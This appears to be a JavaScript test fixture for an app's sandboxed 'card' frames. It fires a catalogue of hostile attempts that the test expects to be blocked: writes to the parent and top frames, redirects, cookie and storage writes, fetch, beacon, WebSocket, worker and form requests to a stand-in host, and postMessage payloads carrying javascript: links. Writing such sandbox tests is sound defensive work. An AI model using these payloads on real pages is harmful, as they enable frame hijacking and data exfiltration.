// What a hostile card may try; STRANGER and ADDRESS are filled in by the test.
(() => {
  const made = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
  const tries = [
    () => { parent.PWNED = "parent"; },
    () => { top.document.body.innerHTML = "PWNED"; },
    () => { top.location = "http://STRANGER/top"; },
    () => { parent.Deck.index({}); },
    () => { localStorage.setItem("PWNED", "1"); },
    () => { document.cookie = "PWNED=1"; },
    () => { window.open("http://STRANGER/open"); },
    () => { fetch("http://STRANGER/fetch").catch(() => {}); },
    () => { fetch("ADDRESSdata/index.js").then(() => { parent.postMessage({ key: "PWNED" }, "*"); }, () => {}); },
    () => { fetch("ADDRESSopen", { method: "POST", body: "x" }).catch(() => {}); },
    () => { navigator.sendBeacon("http://STRANGER/beacon"); },
    () => { new Image().src = "http://STRANGER/image"; },
    () => { new Audio("http://STRANGER/audio").play().catch(() => {}); },
    () => { new WebSocket("ws://STRANGER/socket"); },
    () => { new EventSource("ADDRESSevents"); },
    () => { new Worker("data:text/javascript,fetch('http://STRANGER/worker')"); },
    () => { made("script", { src: "ADDRESSdata/index.js" }); },
    () => { made("link", { rel: "stylesheet", href: "http://STRANGER/style" }); },
    () => { made("iframe", { src: "http://STRANGER/iframe" }); },
    () => { made("object", { data: "http://STRANGER/object" }); },
    () => { const form = document.createElement("form"); form.action = "http://STRANGER/form"; document.body.append(form); form.submit(); },
    () => { parent.postMessage({ link: "javascript:parent.PWNED=1", height: 1e9, key: "PWNED", ready: true }, "*"); },
    () => { parent.postMessage(null, "*"); parent.postMessage({ shown: { toString: 1 }, height: "1" }, "*"); },
    () => { window.RAN = true; },
  ];
  for (const one of tries) { try { one(); } catch { /* that is what should happen */ } }
  setTimeout(() => { try { location = "http://STRANGER/self"; } catch { /* the same */ } }, 2500);
})();
